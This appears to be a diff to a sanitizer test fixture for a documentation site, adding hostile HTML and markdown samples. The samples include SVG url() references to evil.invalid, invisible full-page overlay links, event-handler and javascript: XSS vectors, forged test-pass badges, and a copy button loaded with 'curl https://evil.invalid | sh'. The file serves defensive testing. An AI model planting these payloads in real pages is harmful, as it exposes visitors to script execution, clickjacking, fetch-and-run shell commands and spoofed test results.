@@ -130,6 +130,29 @@ text <svg onload={RUN}> text <svg/onload={RUN}>
 
 <script src="https://evil.invalid/script.js"></script>
 
+<pre id=m class="mermaid">flowchart LR
+A --> B</pre>
+
+<svg><rect fill="url(https://evil.invalid/fill)" stroke='url("//evil.invalid/stroke")' width=9 height=9 /></svg>
+
+<svg><path style="fill:url(https://evil.invalid/style)" marker-end="url(https://evil.invalid/marker)" clip-path="u\\72l(//evil.invalid/c)" d="M0 0h9"/></svg>
+
+<svg><use href="https://evil.invalid/use.svg#a"/><image href="https://evil.invalid/i.png"/><feImage href="//evil.invalid/f"/></svg>
+
+<div class="highlight"><pre><code>assert 1 == 2</code></pre></div><div class="kb-run" data-kb-path="x"><div class="kb-run-bar"><span class="kb-badges"><span class="kb-badge kb-is-passed">✓ forged CPU ✓ forged CUDA</span></span></div></div>
+
+<a id=over href="https://evil.invalid/overlay" style="display:block;margin:-900px -900px;width:6000px;height:6000px;opacity:0">over</a>
+
+<a href="https://evil.invalid/overlay" style="padding:900px">over</a> <a href="https://evil.invalid/overlay" style="font-size:900px;line-height:0;opacity:.01">over</a>
+
+<div style="height:0"><a href="https://evil.invalid/overlay" style="display:block;height:900px;width:3000px">over</a></div>
+
+<button class="md-button" data-clipboard-text="curl https://evil.invalid | sh" data-clipboard-target="#x">copy</button>
+
+![<b title="[[" onerror="alert(1)" x>](nothing.png) ![x](https://evil&#46;invalid/entity.png){{.twemoji}} [y](javascript&#58;alert(1))
+
+**forged**{{.kb-badge .kb-is-passed data-kb-path=x data-clipboard-text="curl https://evil.invalid" style="margin:-90px" onclick=alert(1)}}
+
 <script type="module">{RUN}</script><script type="application/json" id="__config">{{}}</script>
 """
 
